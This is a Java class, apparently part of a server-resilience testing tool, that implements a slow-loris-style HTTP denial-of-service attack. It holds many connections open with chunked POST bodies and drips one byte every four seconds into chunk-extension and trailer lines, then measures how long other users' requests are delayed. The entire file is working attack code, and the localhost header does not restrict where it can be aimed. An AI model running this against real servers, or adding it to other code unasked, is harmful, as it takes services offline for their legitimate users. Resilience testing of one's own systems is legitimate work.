package be.ptr.hostile;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * Bodies in chunks of which not the content is endless, but what stands around it: the line before a chunk, or one behind
 * the last.
 *
 * @param longestClick of somebody else, while it lasts
 */
public record EndlessFrames(int connections, Duration length, Duration longestClick) implements Attack {
    private static final Duration PACE = Duration.ofSeconds(4);
    private static final String HEAD = String.join(
            "\r\n",
            "POST /sign-in HTTP/1.1",
            "Host: localhost",
            "Content-Type: application/x-www-form-urlencoded",
            "Transfer-Encoding: chunked",
            "",
            "");
    private static final String[] STARTS = {"1;x", "1\r\na\r\n0\r\nX-A: b"};

    @Override
    public Finding against(Victim victim) throws InterruptedException {
        return new Siege(victim, length, longestClick)
                .hold(
                        connections + " bodies with endless lines between, a byte each " + PACE.toSeconds() + " s for "
                                + length.toSeconds() + " s",
                        connections,
                        number -> open(victim, HEAD + STARTS[number % STARTS.length]),
                        PACE,
                        connection -> connection.getOutputStream().write('y'));
    }

    private static Socket open(Victim victim, String start) throws IOException {
        Socket connection = victim.connect(1 << 12);
        connection.getOutputStream().write(start.getBytes(StandardCharsets.US_ASCII));
        return connection;
    }
}
